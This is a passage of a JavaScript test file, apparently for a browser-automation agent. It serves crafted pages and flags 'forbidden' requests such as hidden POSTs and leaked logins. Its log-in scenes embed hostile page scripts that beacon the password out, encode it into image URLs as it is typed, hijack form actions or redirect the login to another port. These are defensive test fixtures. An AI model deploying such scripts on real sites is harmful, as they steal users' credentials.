        'press-hover',
        'press-focus',
      ].map((way) => ({ way, path: `/got/${way}`, forbidden: POSTED })),
    }),
  },
  ...['textbox', 'choose'].map((kind) => ({
    name: `form by ${kind}`,
    scene: () => ({
      steps:
        kind === 'textbox'
          ? `      - { fill: { role: textbox, name: Note, value: "${VALUE}" } }\n      - { click: { role: button, name: Next } }\n${CLICK}`
          : `      - { choose: { role: radio, name: One } }\n      - { click: { role: button, name: Next } }\n${CLICK}`,
      pages: {
        ...PAGES,
        '/': page(
          kind === 'textbox'
            ? `<form action="/got/get-form-with-text"><label>Note <input name="q"></label><button>Next</button></form>${GO}`
            : `<form action="/got/get-form-turned"><label><input type="radio" name="p" value="1">One</label><button>Next</button></form>${GO}<script>document.forms[0].onsubmit = (e) => { e.target.method = 'post' }</script>`,
        ),
      },
      ways: [
        kind === 'textbox'
          ? {
              way: 'GET form with a text field',
              path: '/got/get-form-with-text',
              forbidden: ({ url }) => /Kanarien/.test(url),
            }
          : { way: 'GET form that turns into POST', path: '/got/get-form-turned', forbidden: POSTED },
      ],
    }),
  })),
  {
    name: 'searched',
    settings: 'explore: { clicks: 2, screens: 25, seconds: 40 }\n',
    scene: (at) => ({
      reads: [`POST ${at.origin}/got/search-read`],
      pages: {
        ...PAGES,
        '/': page(
          `<ul role="menu"><li role="menuitem" tabindex="0" onclick="fetch('/got/search-menuitem',{method:'POST'})">Unfollow</li><li role="menuitem" tabindex="0" onclick="navigator.sendBeacon('/got/search-beacon')">Mute</li></ul>
<button aria-expanded="false" onclick="fetch('/got/search-expander',{method:'POST'});this.setAttribute('aria-expanded','true')">More options</button>
<button aria-haspopup="true" onclick="fetch('/got/search-read',{method:'POST'})">Menu</button>
<div role="tablist"><button role="tab" onclick="new Image().src='/got/x';document.getElementById('sf').submit()">Privacy</button></div>
<form id="sf" method="post" action="/got/search-form"></form><a href="/elsewhere" ping="/got/search-ping">Settings</a>`,
        ),
        '/elsewhere': page(`<p>Nothing</p><script>fetch('/got/search-load',{method:'PUT'})</script>`),
      },
      steps: '      - { click: { role: link, name: Go there } }',
      ways: [
        'search-menuitem',
        'search-beacon',
        'search-expander',
        'search-read',
        'search-form',
        'search-ping',
        'search-load',
      ].map((way) => ({ way, path: `/got/${way}`, forbidden: POSTED })),
    }),
  },
  ...logIns(),
]

/** Log-ins that must not be. The one that may is `/in`, once. */
function logIns() {
  const form = (action, more = '') =>
    page(
      `<form method="post" action="${action}"><label>User <input name="u"></label><label>Password <input type="password" name="p"></label><button>Log in</button></form>${GO}${more}`,
    )
  const steps = `      - { fill: { role: textbox, name: User, secret: BENCH_USER } }
      - { fill: { role: textbox, name: Password, secret: BENCH_PASSWORD } }
      - { click: { role: button, name: Log in } }
`
  const scene = (name, pages, forbidden = ({ url }) => url.startsWith('/got/'), more = '') => ({
    name: `log-in: ${name}`,
    scene: (at) => ({
      steps: `${steps}${more}${CLICK}`,
      pages: {
        ...PAGES,
        '/in': (_, response) => response.writeHead(303, { location: '/account' }).end(),
        '/account': page(GO),
        ...pages(at),
      },
      ways: [{ way: `log-in: ${name}`, forbidden }],
    }),
  })
  const again = `${steps}`
  return [
    scene('307 to another address', () => ({ '/': form('/r307?to=/got/login-307') })),
    scene('308 to another address', () => ({ '/': form('/r308?to=/got/login-308') })),
    scene('307 to another port', ({ other }) => ({
      '/': form(`/r307?to=${encodeURIComponent(`${other}/got/login-port`)}`),
    })),
    scene('form of another port', ({ other }) => ({ '/': form(`${other}/got/login-action`) })),
    scene('action changed on submit', () => ({
      '/': form(
        '/in',
        `<script>document.forms[0].onsubmit = () => { fetch('/got/login-extra', { method: 'POST', body: new FormData(document.forms[0]) }); navigator.sendBeacon('/got/login-beacon', document.forms[0].p.value) }</script>`,
      ),
    })),
    scene('action changed by its page', () => ({
      '/': form('/in', `<script>document.forms[0].onsubmit = (e) => { e.target.action = '/got/login-moved' }</script>`),
    })),
    ...['pointerdown', 'mouseenter', 'focus', 'click'].map((event) =>
      scene(`another form by ${event}`, () => ({
        '/': form(
          '/in',
          `<form id="evil" method="post" action="/got/login-other" target="fr"><input name="sure" value="yes"></form><iframe name="fr"></iframe><script>document.querySelector('form button').on${event} = () => evil.submit()</script>`,
        ),
      })),
    ),
    scene(
      'typed into a GET form',
      () => ({ '/': form('/got/login-get').replace('method="post"', '') }),
      ({ url }) => /Rotkehl/.test(url),
    ),
    scene('by script', () => ({
      '/': form(
        '/in',
        `<script>document.forms[0].onsubmit = (e) => { e.preventDefault(); fetch('/got/login-xhr', { method: 'POST', body: document.forms[0].p.value }) }</script>`,
      ),
    })),
    scene(
      'password sent while it is typed',
      () => ({
        '/': form(
          '/in',
          `<script>document.forms[0].oninput = () => new Image().src = '/got/login-typing?' + btoa(document.forms[0].p.value)</script>`,
        ),
      }),
      ({ url }) => /login-typing\?.{4}/.test(url),
    ),
    scene('asked again', () => ({ '/': form('/in'), '/account': form('/got/login-again') }), undefined, again),
    scene(
      'password in the next address',
      () => ({
        '/': form('/in'),
        '/in': (_, response) =>
          response.writeHead(303, { location: `/account?p=${encodeURIComponent(SECRETS.BENCH_PASSWORD)}` }).end(),
      }),
      ({ url }) => /account\?p=/.test(url),
    ),
    scene('open redirect to another port', ({ other }) => ({
      '/': (_, response) => response.writeHead(302, { location: `${other}/got/login-elsewhere` }).end(),
    })),
  ]
}
